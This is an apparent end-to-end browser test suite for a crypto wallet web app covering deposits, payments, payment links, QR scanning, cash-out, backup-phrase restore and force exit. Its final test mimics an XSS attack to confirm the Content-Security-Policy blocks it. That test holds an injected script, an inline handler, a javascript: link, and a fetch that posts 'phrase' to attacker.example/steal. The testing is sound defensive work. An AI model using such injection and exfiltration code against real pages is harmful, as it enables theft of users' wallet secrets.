// The Spoke Card (www/dist, built by ./scripts/build-card) in headless Chromium against a real `spoke-node dev`:
// people in separate browser contexts get wallets, take test Dai from the faucet and deposit it, pay each other
// (the payee's balance moves without a reload), make and redeem a payment link (and are told when one is too old to
// redeem), request an amount by link, cash
// out on chain, reload, and restore a wallet from its backup phrase. Every screen is photographed into
// www/e2e/screenshots/, and no page may log an error or break its Content-Security-Policy on the way; a page of
// its own then tries what injected code would, and the policy must refuse it.
//
// The steps build on each other (the link is paid from what was deposited), so they are one ordered suite.

import assert from "node:assert/strict";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { ethers } from "ethers";

import { DAI_ABI, fund, recordingStorage } from "../../client-wasm/js-tests/harness.mjs";
import { WWW_DIST, launchBrowser, screenshot, startDev, watchPage } from "./harness.mjs";

const DAI = 10n ** 18n;
// Chromium logs every 4xx answer as a console error. Two are the protocol at work, and nothing else is expected:
// - the client asks the node to count a deposit until the node has seen it confirmed; each early ask is answered
//   400 DEPOSIT_NOT_CONFIRMED;
// - a payment sent while the node's proposal (the last payment's resolve, collateral) waits for this card's
//   countersignature is answered 409 PENDING_PROPOSAL, and the client countersigns it and pays again.
const EXPECTED = [
  /status of 400 \(Bad Request\) \(.*\/channel\/propose\)$/,
  /status of 409 \(Conflict\) \(.*\/pay\)$/,
];

let dev;
let browser;
const people = [];

/**
 * A person with a card: a fresh browser context (its own storage, so its own wallet) on the card's home page.
 * `allow`: console errors this person is meant to cause (the node refusing what they try), besides EXPECTED.
 */
async function person(name, allow = []) {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const page = await context.newPage();
  const problems = await watchPage(page);
  page.on("dialog", (dialog) => dialog.accept());
  // The node's refusals with their reasons, for the message of a failing test (the console has only the status).
  const refusals = [];
  page.on("response", async (response) => {
    if (response.status() < 400) return;
    const body = await response.text().catch(() => "");
    refusals.push(`${response.status()} ${response.request().method()} ${response.url()} ${body.slice(0, 300)}`);
  });
  // Every step any task shows, however briefly: the test checks what the person was told along the way.
  await page.addInitScript(() => {
    window.__spokeSteps = [];
    new MutationObserver(() => {
      for (const step of document.querySelectorAll(".tasks li.task .step")) {
        const text = step.textContent;
        if (window.__spokeSteps.at(-1) !== text && !window.__spokeSteps.includes(text)) window.__spokeSteps.push(text);
      }
    }).observe(document, { subtree: true, childList: true, characterData: true });
  });
  await page.goto(dev.cardUrl);
  await page.waitForSelector("#dai-balance", { timeout: 60_000 });
  const address = await page.getAttribute("header .address", "title");
  assert.match(address, /^0x[0-9a-fA-F]{40}$/, `${name}'s card shows its address`);
  const someone = { name, context, page, problems, address, refusals, allow };
  people.push(someone);
  return someone;
}

/** The Dai balance the card shows in its header, in base units. */
async function shownBalance(page) {
  const text = await page.textContent("#balance");
  return ethers.parseUnits(text.replace(/ Dai$/, "").trim(), 18);
}

/** Waits until the card shows `amount` Dai (to the two decimals the header shows). */
async function waitForBalance(page, amount, timeout = 60_000) {
  const shown = ethers.formatUnits(amount, 18).replace(/\.0$/, "");
  try {
    await page.waitForFunction(
      (want) => document.querySelector("#balance")?.textContent === `${want} Dai`,
      shown,
      { timeout },
    );
  } catch (error) {
    throw new Error(`the card never showed ${shown} Dai; it shows:\n${await page.locator("body").innerText()}`, {
      cause: error,
    });
  }
}

/** Waits for the latest task (the first in the Activity list) to end, and returns its status and step. */
async function lastTask(page, timeout = 60_000) {
  const task = page.locator(".tasks li.task").first();
  await task.waitFor({ timeout });
  await page.waitForFunction(
    () => document.querySelector(".tasks li.task")?.dataset.status !== "working",
    null,
    { timeout },
  );
  return { status: await task.getAttribute("data-status"), step: await task.locator(".step").textContent() };
}

async function goHome(page) {
  await page.click("header .brand");
  await page.waitForSelector("#dai-balance");
}

/** Faucet, then a deposit of `amount` whole Dai into the card. */
async function fundAndDeposit(someone, amount) {
  const { page } = someone;
  await page.click("#go-deposit");
  await page.waitForSelector("#deposit-address");
  assert.equal(await page.textContent("#deposit-address"), someone.address);
  await page.click("#faucet");
  assert.deepEqual(await lastTask(page), {
    status: "done",
    step: "Test ETH and Dai are at your address: deposit them into the card.",
  });
  await page.waitForFunction(() => document.querySelector("#deposit-on-chain")?.textContent.includes("100 Dai"));
  await page.fill("#deposit-amount", String(amount));
  await page.click("#deposit");
  await waitForBalance(page, BigInt(amount) * DAI);
  assert.equal((await lastTask(page)).status, "done");
  // The wait for the chain was shown as it went: mined, then the confirmations the node asks for.
  const steps = await page.evaluate(() => window.__spokeSteps);
  assert.ok(
    steps.some((s) => /^Mined; \d+ of \d+ confirmations…$|^Confirmed; the node is counting it…$/.test(s)),
    `the confirmations were shown: ${JSON.stringify(steps)}`,
  );
}

before(async () => {
  if (!existsSync(join(WWW_DIST, "spoke_card_bg.wasm"))) {
    throw new Error(`the card is not built in ${WWW_DIST}: run ./scripts/build-card`);
  }
  dev = await startDev({ accounts: 1 });
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await dev?.stop();
});

let alice;
let bob;

test("two people get wallets and deposit test Dai from the faucet", async () => {
  alice = await person("alice");
  bob = await person("bob");
  assert.notEqual(alice.address, bob.address);
  await screenshot(alice.page, "home-empty");
  await fundAndDeposit(alice, 40);
  await screenshot(alice.page, "deposit");
  await fundAndDeposit(bob, 10);
  await goHome(alice.page);
  await screenshot(alice.page, "home");
});

test("a payment reaches the payee's card without a reload", async () => {
  const { page } = alice;
  await page.click("#go-send");
  await page.fill("#send-to", bob.address);
  await page.fill("#send-amount", "2.5");
  await screenshot(page, "send");
  await page.click("#send");
  assert.equal((await lastTask(page)).status, "done");
  // Bob's channel had no collateral from the node yet: the card said so before it signed, never a bare spinner.
  const steps = await page.evaluate(() => window.__spokeSteps);
  const collateral = steps.findIndex((s) => /needs collateral/.test(s));
  assert.ok(collateral >= 0, `the collateral wait was shown: ${JSON.stringify(steps)}`);
  assert.ok(steps.indexOf("Sent; waiting for the recipient to take it…") > collateral, JSON.stringify(steps));
  await waitForBalance(page, 375n * DAI / 10n);
  await waitForBalance(bob.page, 125n * DAI / 10n);
});

let linkUrl;
let carol;
let requestQr;

/**
 * The card's QR code (its SVG: a viewBox "0 0 n n" and one path of unit squares) as a one-frame Y4M video, the
 * format Chromium's fake camera plays: black modules on white, 8 pixels each, inside a white margin.
 */
function qrVideo({ viewBox, d }) {
  const modules = Number(viewBox.split(" ")[2]);
  const scale = 8;
  const margin = 4 * scale;
  const side = modules * scale + 2 * margin;
  const luma = Buffer.alloc(side * side, 255);
  for (const [, mx, my] of d.matchAll(/M(\d+) (\d+)h1v1h-1z/g)) {
    for (let y = 0; y < scale; y++) {
      const row = (margin + Number(my) * scale + y) * side + margin + Number(mx) * scale;
      luma.fill(0, row, row + scale);
    }
  }
  const chroma = Buffer.alloc((side / 2) * (side / 2), 128);
  return Buffer.concat([Buffer.from(`YUV4MPEG2 W${side} H${side} F10:1 Ip A1:1 C420jpeg\nFRAME\n`), luma, chroma, chroma]);
}

test("a payment link made by one card is redeemed by a third", async () => {
  const { page } = alice;
  await goHome(page);
  await page.click("#go-send");
  await page.check("#send-as-link");
  await page.fill("#send-amount", "1");
  await page.click("#send");
  const task = await lastTask(page);
  assert.equal(task.status, "done", task.step);
  linkUrl = await page.locator(".tasks li.task").first().locator(".task-link").textContent();
  assert.ok(linkUrl.startsWith(`${dev.cardUrl}redeem?secret=0x`), linkUrl);
  await waitForBalance(page, 365n * DAI / 10n);

  carol = await person("carol");
  await carol.page.goto(linkUrl);
  await carol.page.waitForSelector("#redeem-status");
  await carol.page
    .waitForFunction(() => document.querySelector("#redeem-status")?.className.includes("done"), null, {
      timeout: 90_000,
    })
    .catch(async (error) => {
      const shown = await carol.page.locator("body").innerText();
      throw new Error(`the redeem did not end; the card shows:\n${shown}\n${carol.refusals.join("\n")}`, {
        cause: error,
      });
    });
  await waitForBalance(carol.page, DAI);
  await screenshot(carol.page, "redeem");

  // Anyone else opening it later is told it was redeemed; a mangled link is told apart from an unknown one.
  const dave = await person("dave", [/status of 409 \(Conflict\) \(.*\/links\/redeem\)$/]);
  assert.match(await redeemOutcome(dave.page, linkUrl), /already redeemed/);
  await screenshot(dave.page, "redeem-already");
  assert.match(await redeemOutcome(dave.page, linkUrl.slice(0, -1)), /malformed/);
  await waitForBalance(dave.page, 0n);
  await waitForBalance(carol.page, DAI);
});

test("a link opened too late to redeem says it expired", async () => {
  // Made by the npm package in this process, with the shortest payee lock the node takes: the protocol's reveal
  // time and safety margin (Timing::default, 3,600 + 600 s) and two seconds. Two seconds later the node refuses to
  // lock to a redeemer, since it could no longer be sure to learn the preimage in time.
  const { SpokeClient, SpokeWallet } = await import("../../client-wasm/pkg/index.js");
  const { storage } = recordingStorage("expiring link's payer");
  const wallet = await SpokeWallet.open({ storage });
  await fund(dev, wallet.address, { eth: "1", dai: "2" });
  const payer = await SpokeClient.connect({
    nodeUrl: dev.nodeUrl,
    ethUrl: dev.rpcUrl,
    wallet,
    storage,
    payeeLockSeconds: 3_600 + 600 + 2,
  });
  try {
    await payer.deposit(dev.dai, 2n * DAI);
    const { secret } = await payer.createLink(dev.dai, DAI);
    const tooLate = Date.now() + 3_000;
    const erin = await person("erin", [/status of 410 \(Gone\) \(.*\/links\/redeem\)$/]);
    while (Date.now() < tooLate) await new Promise((ok) => setTimeout(ok, 250));
    assert.match(await redeemOutcome(erin.page, `${dev.cardUrl}redeem?secret=${secret}`), /expired/);
    await screenshot(erin.page, "redeem-expired");
    await waitForBalance(erin.page, 0n);
  } finally {
    payer.free();
  }
});

/** Opens a redeem link and waits for how it ends: the status line's text. */
async function redeemOutcome(page, link) {
  await page.goto(link);
  await page.waitForFunction(
    () => /\b(done|failed)\b/.test(document.querySelector("#redeem-status")?.className ?? ""),
    null,
    { timeout: 60_000 },
  );
  return page.textContent("#redeem-status");
}

test("a request link opens Send prefilled, and paying it pays the requester", async () => {
  const { page } = bob;
  await goHome(page);
  await page.click("#go-request");
  await page.fill("#request-amount", "3");
  const link = await page.locator("#request-link").textContent();
  assert.equal(link, `${dev.cardUrl}send?to=${bob.address}&amount=3`);
  assert.equal(await page.locator("svg.qr").count(), 1, "the request has a QR code");
  requestQr = {
    link,
    viewBox: await page.getAttribute("svg.qr", "viewBox"),
    d: await page.getAttribute("svg.qr path", "d"),
  };
  await screenshot(page, "request");

  await alice.page.goto(link);
  await alice.page.waitForSelector("#send-amount");
  assert.equal(await alice.page.inputValue("#send-to"), bob.address);
  assert.equal(await alice.page.inputValue("#send-amount"), "3");
  await alice.page.click("#send");
  assert.equal((await lastTask(alice.page)).status, "done");
  await waitForBalance(alice.page, 335n * DAI / 10n);
  await waitForBalance(page, 155n * DAI / 10n);
});

test("Send scans a request's QR code with the camera and fills itself in", async () => {
  // A browser whose camera films the request's QR code (Chromium's fake capture device, permission granted).
  const dir = mkdtempSync(join(tmpdir(), "spoke-e2e-camera-"));
  const video = join(dir, "qr.y4m");
  writeFileSync(video, qrVideo(requestQr));
  const filming = await launchBrowser({
    args: [
      "--use-fake-ui-for-media-stream",
      "--use-fake-device-for-media-stream",
      `--use-file-for-fake-video-capture=${video}`,
    ],
  });
  try {
    const context = await filming.newContext({ viewport: { width: 390, height: 844 } });
    await context.grantPermissions(["camera"], { origin: new URL(dev.cardUrl).origin });
    const page = await context.newPage();
    const problems = await watchPage(page);
    await page.goto(`${dev.cardUrl}send`);
    await page.waitForSelector("#send-to", { timeout: 60_000 });
    await page.click("#scan");
    await page.waitForSelector("#scan-video");
    await screenshot(page, "send-scanning");
    await page
      .waitForFunction(() => document.querySelector("#send-to")?.value.startsWith("0x"), null, { timeout: 30_000 })
      .catch(async (error) => {
        throw new Error(`nothing was scanned; the card shows:\n${await page.locator("body").innerText()}`, {
          cause: error,
        });
      });
    assert.equal(await page.inputValue("#send-to"), bob.address);
    assert.equal(await page.inputValue("#send-amount"), "3");
    assert.equal(await page.locator("#scan-video").count(), 0, "the scanner closed once it read the code");
    problems.assertNone();
  } finally {
    await filming.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test("cashing out moves Dai from the card to an address on chain", async () => {
  const { page } = bob;
  const dai = new ethers.Contract(dev.dai, DAI_ABI, new ethers.JsonRpcProvider(dev.rpcUrl));
  const payee = ethers.Wallet.createRandom().address;
  await goHome(page);
  await page.click("#go-cash-out");
  await page.fill("#cash-out-to", payee);
  await page.fill("#cash-out-amount", "5");
  await screenshot(page, "cash-out");
  await page.click("#cash-out");
  const task = await lastTask(page, 120_000);
  assert.equal(task.status, "done", task.step);
  await waitForBalance(page, 105n * DAI / 10n);
  assert.equal(await dai.balanceOf(payee), 5n * DAI);

  // Sold for ETH at the node's quote: the ETH arrives, and the Dai leaves the card.
  const ethPayee = ethers.Wallet.createRandom().address;
  await goHome(page);
  await page.click("#go-cash-out");
  await page.fill("#cash-out-to", ethPayee);
  await page.fill("#cash-out-amount", "1");
  await page.check("#cash-out-eth");
  await page.click("#cash-out");
  const sold = await lastTask(page, 120_000);
  assert.equal(sold.status, "done", sold.step);
  await waitForBalance(page, 95n * DAI / 10n);
  const eth = await dai.runner.getBalance(ethPayee);
  assert.ok(eth > 0n, `the ETH reached ${ethPayee}: ${sold.step}`);
  assert.equal(await dai.balanceOf(ethPayee), 0n);
});

test("a reload keeps the wallet, the balance and the history", async () => {
  const { page, address } = bob;
  const balance = await shownBalance(page);
  await page.reload();
  await page.waitForSelector("header .address", { timeout: 60_000 }).catch(async (error) => {
    throw new Error(`after the reload the card shows:\n${await page.locator("body").innerText()}`, { cause: error });
  });
  assert.equal(await page.getAttribute("header .address", "title"), address);
  await waitForBalance(page, balance);
  await goHome(page);
  await page.click("#go-history");
  await page.waitForSelector("#history li");
  const lines = await page.locator("#history li").allInnerTexts();
  const has = (pattern) => lines.some((line) => pattern.test(line.replace(/\s+/g, " ")));
  assert.ok(has(/^From 0x.*\+2\.5 done$/), `the payment from Alice: ${JSON.stringify(lines)}`);
  assert.ok(has(/^From 0x.*\+3 done$/), `the paid request: ${JSON.stringify(lines)}`);
  assert.ok(has(/^Deposit from your address \+10 on chain$/), `the deposit: ${JSON.stringify(lines)}`);
  assert.ok(has(/^Cash out to 0x.* −5 on chain$/), `the cash out: ${JSON.stringify(lines)}`);
  assert.ok(has(/^Cash out as 0\.\d+ ETH to 0x.* −1 on chain$/), `the cash out in ETH: ${JSON.stringify(lines)}`);
  await screenshot(page, "history");
});

test("a password seals the wallet: storage keeps no phrase, and a reload asks for it", async () => {
  const { page, address } = bob;
  const balance = await shownBalance(page);
  await goHome(page);
  await page.click("#go-settings");
  await page.click("#show-phrase");
  const phrase = (await page.textContent("#phrase")).trim();
  await page.fill("#new-password", "correct horse battery staple");
  await page.click("#set-password");
  await page.waitForSelector(".status.done");
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  const words = phrase.split(/\s+/);
  for (let i = 0; i + 1 < words.length; i++) {
    const pair = `${words[i]} ${words[i + 1]}`;
    assert.ok(!stored.includes(pair), `the storage holds part of the phrase: ${pair}`);
  }
  assert.ok(!stored.includes(phrase), "the storage holds the phrase");

  await page.reload();
  await page.waitForSelector("#unlock-password", { timeout: 60_000 });
  await screenshot(page, "unlock");
  await page.fill("#unlock-password", "wrong password");
  await page.click("#unlock");
  await page.waitForSelector(".page.unlock .problem, .page.unlock .error", { timeout: 60_000 });
  await page.fill("#unlock-password", "correct horse battery staple");
  await page.click("#unlock");
  await page.waitForSelector("header .address", { timeout: 60_000 });
  assert.equal(await page.getAttribute("header .address", "title"), address);
  await waitForBalance(page, balance);
});

test("the backup phrase restores the wallet in a fresh browser", async () => {
  const { page } = alice;
  await goHome(page);
  await page.click("#go-settings");
  await page.click("#show-phrase");
  const phrase = (await page.textContent("#phrase")).trim();
  assert.equal(phrase.split(/\s+/).length, 12, "a twelve-word phrase");
  await screenshot(page, "settings");
  const balance = await shownBalance(page);

  const restored = await person("alice-restored");
  assert.notEqual(restored.address, alice.address, "a fresh context starts with a wallet of its own");
  await restored.page.click("#go-settings");
  await restored.page.fill("#import-phrase", phrase);
  await restored.page.click("#import");
  await restored.page.waitForFunction(
    (want) => document.querySelector("header .address")?.title === want,
    alice.address,
    { timeout: 60_000 },
  );
  await waitForBalance(restored.page, balance);
});

test("Settings → Force exit disputes on chain and pays the card's Dai out, showing each step", async () => {
  const { page, address } = carol;
  const chain = new ethers.JsonRpcProvider(dev.rpcUrl);
  const dai = new ethers.Contract(dev.dai, DAI_ABI, chain);
  await goHome(page);
  await page.click("#go-settings");
  // Without ETH for gas the exit cannot start, and the card says what to do.
  await page.click("#force-exit");
  const noGas = await lastTask(page);
  assert.equal(noGas.status, "failed");
  assert.match(noGas.step, /too little ETH to pay for gas/);
  // With the faucet's ETH it can.
  await page.click("header .brand");
  await page.click("#go-deposit");
  await page.click("#faucet");
  assert.equal((await lastTask(page)).status, "done");
  const before = await dai.balanceOf(address);
  await goHome(page);
  await page.click("#go-settings");
  await page.click("#force-exit");
  const task = page.locator(".tasks li.task").first();
  // The dispute is on chain and the card waits out the challenge window, saying until when.
  await page
    .waitForFunction(
      () => /window|until/i.test(document.querySelector(".tasks li.task .step")?.textContent ?? ""),
      null,
      { timeout: 60_000 },
    )
    .catch(async (error) => {
      const shown = await page.locator("body").innerText();
      throw new Error(`the exit never waited for the window; the card shows:\n${shown}\n${carol.refusals.join("\n")}`, {
        cause: error,
      });
    });
  assert.equal(await task.getAttribute("data-status"), "working");
  await screenshot(page, "force-exit-waiting");
  // The chain's clock, not the test's, ends the window: move it past the challenge window.
  await chain.send("evm_increaseTime", [dev.challengeWindow + 60]);
  await chain.send("evm_mine", []);
  const end = await lastTask(page, 120_000);
  assert.equal(end.status, "done", end.step);
  assert.equal(end.step, "The channel is closed and everything owed was paid out.");
  assert.equal((await dai.balanceOf(address)) - before, DAI, "the card's 1 Dai is at its address");
  // The card is on the pair's next channel, empty: it no longer shows the Dai that was paid out.
  await waitForBalance(page, 0n);
  await screenshot(page, "force-exit-done");
});

test("the page's policy refuses an injected script, an inline handler, a javascript: link and a foreign fetch; the card still runs", async () => {
  // A fresh context that is not one of the people: its violations are the point, so the last test does not
  // look at them.
  const context = await browser.newContext();
  const page = await context.newPage();
  const problems = await watchPage(page);
  try {
    await page.goto(dev.cardUrl);
    await page.waitForSelector("#dai-balance", { timeout: 60_000 });
    const outcome = await page.evaluate(async () => {
      // What an XSS would try, had it found a way to write into the page.
      const script = document.createElement("script");
      script.textContent = "window.__injected = 'inline script';";
      document.body.append(script);
      const img = document.createElement("img");
      img.setAttribute("onerror", "window.__injected = 'inline handler';");
      img.src = "data:,not an image";
      document.body.append(img);
      const link = document.createElement("a");
      link.href = "javascript:window.__injected = 'javascript: link'";
      document.body.append(link);
      link.click();
      let fetchRefused = false;
      try {
        await fetch("https://attacker.example/steal", { method: "POST", body: "phrase" });
      } catch {
        fetchRefused = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { injected: window.__injected ?? null, fetchRefused };
    });
    // (eval cannot be tried from here: Chromium lets code evaluated through DevTools, as this is, call it.)
    assert.deepEqual(outcome, { injected: null, fetchRefused: true });
    // One securitypolicyviolation event for each attempt (the javascript: link counts as an inline script).
    const events = problems
      .csp()
      .map((r) => /^([a-z-]+) refused /.exec(r.text)?.[1])
      .filter(Boolean)
      .sort();
    assert.deepEqual(events, ["connect-src", "img-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
    // The card's own code (its .wasm under 'wasm-unsafe-eval') still runs: it still answers a click.
    await page.click("#go-deposit");
    await page.waitForSelector("#deposit-address");
  } finally {
    await context.close();
  }
});

test("no page logged an error or broke its policy", () => {
  for (const { name, problems, refusals, allow } of people) {
    assert.doesNotThrow(
      () => problems.assertNone({ allow: [...EXPECTED, ...allow] }),
      `${name}: ${refusals.join("\n")}`,
    );
  }
});
